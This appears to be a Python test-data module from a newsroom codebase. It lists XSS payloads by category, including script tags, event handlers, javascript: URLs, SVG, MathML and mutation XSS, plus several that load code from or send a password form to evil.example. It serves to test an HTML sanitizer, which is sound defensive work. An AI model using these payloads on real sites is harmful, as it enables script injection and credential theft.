"""The newsroom's own XSS vectors, by category (the shared corpus is read beside them)."""

from __future__ import annotations

import json
from pathlib import Path

OWN_VECTORS: dict[str, list[str]] = {
    "script": [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script/src=data:,alert(1)></script>",
        '<script type="module">import("//evil.example/m.js")</script>',
        "<script>/*</script><script>*/alert(1)</script>",
        '"><script>alert(document.cookie)</script>',
        "'><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "<script\x00>alert(1)</script>",
        "<script\n>alert(1)</script\n>",
    ],
    "event_handler": [
        "<img src=x onerror=alert(1)>",
        '<img src="x" ONERROR="alert(1)">',
        "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
        "<body onload=alert(1)>",
        "<div onmouseover='alert(1)'>hover</div>",
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>news</marquee>",
        "<p style=x onpointerenter=alert(1)>text</p>",
        '<a href="#" onclick="alert(1)">click</a>',
        "<img/src/onerror=alert(1)>",
        '" onmouseover="alert(1)" x="',
        "' autofocus onfocus='alert(1)",
    ],
    "javascript_url": [
        '<a href="javascript:alert(1)">link</a>',
        '<a href="JaVaScRiPt:alert(1)">link</a>',
        '<a href=" javascript:alert(1)">link</a>',
        '<a href="java\tscript:alert(1)">link</a>',
        '<a href="java&#x09;script:alert(1)">link</a>',
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">x</a>',
        '<a href="javascript&colon;alert(1)">link</a>',
        '<a href="&#0000106avascript:alert(1)">link</a>',
        '<a href="\x01javascript:alert(1)">link</a>',
        '<a href="vbscript:msgbox(1)">link</a>',
        '<a href="VBScript:msgbox(1)">link</a>',
        '<a href="livescript:alert(1)">link</a>',
        '<form action="javascript:alert(1)"><button>go</button></form>',
        '<button formaction="javascript:alert(1)">go</button>',
        '<iframe src="javascript:alert(1)"></iframe>',
        "javascript:alert(1)",
    ],
    "data_url": [
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
        '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
        '<object data="data:text/html,<script>alert(1)</script>"></object>',
        '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
        '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
        '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    ],
    "svg": [
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
        '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
        '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
        "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
        "<svg/onload=alert(1)//",
    ],
    "mathml": [
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        '<math href="javascript:alert(1)">click</math>',
        "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
        "<math><mtext><mglyph><svg><mtext><style><img src=x onerror=alert(1)></style>",
    ],
    "style": [
        "<style>body{background:url(javascript:alert(1))}</style>",
        '<div style="background:url(javascript:alert(1))">x</div>',
        '<div style="width:expression(alert(1))">x</div>',
        "<style>@import 'https://evil.example/x.css';</style>",
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        '<p style="behavior:url(x.htc)">x</p>',
    ],
    "embedding": [
        "<iframe src=https://evil.example></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        '<object data="https://evil.example/x.swf"></object>',
        '<embed src="https://evil.example/x.swf">',
        "<applet code=X></applet>",
        "<frameset><frame src=javascript:alert(1)></frameset>",
        '<base href="https://evil.example/">',
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
        '<form action="https://evil.example/steal"><input name=password></form>',
        '<form id="x"><button formaction="//evil.example">x</button></form>',
        "<portal src=https://evil.example></portal>",
    ],
    "mxss": [
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        "<template><img src=x onerror=alert(1)></template>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<noembed><img src=x onerror=alert(1)></noembed>",
        "<textarea><img src=x onerror=alert(1)></textarea>",
        "<title><img src=x onerror=alert(1)></title>",
        "<!--<img src=x onerror=alert(1)>-->",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        '<a title="`"><img src=x onerror=alert(1)>`">x</a>',
        "<table><td><form><input name=x></form><img src=x onerror=alert(1)>",
        "<select><style></select><img src=x onerror=alert(1)></style>",
        "<p>a</p></script><script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        '{"@context": "</script><script>alert(1)</script>"}',
        "\u2028</script>\u2029<script>alert(1)</script>",
        '<a href="http://example.org/?</script><script>alert(1)</script>">x</a>',
        '<img src="x` `<script>alert(1)</script>"` `>',
    ],
}

VECTOR_COUNT = sum(len(v) for v in OWN_VECTORS.values())


def own_vectors() -> list[tuple[str, str]]:
    return [
        (f"own-{category}-{index}", payload)
        for category, payloads in OWN_VECTORS.items()
        for index, payload in enumerate(payloads)
    ]


def shared_corpus_path() -> Path:
    """`shared/security/xss-vectors.jsonl` beside the repository, when it is there."""
    repository = Path(__file__).resolve().parent.parent
    return repository.parent / "shared" / "security" / "xss-vectors.jsonl"


def shared_vectors() -> list[tuple[str, str]]:
    path = shared_corpus_path()
    if not path.is_file():
        return []
    vectors = []
    for line in path.read_text(encoding="utf-8").splitlines():
        if line.strip():
            item = json.loads(line)
            vectors.append((f"shared-{item['category']}-{item['id']}", item["payload"]))
    return vectors
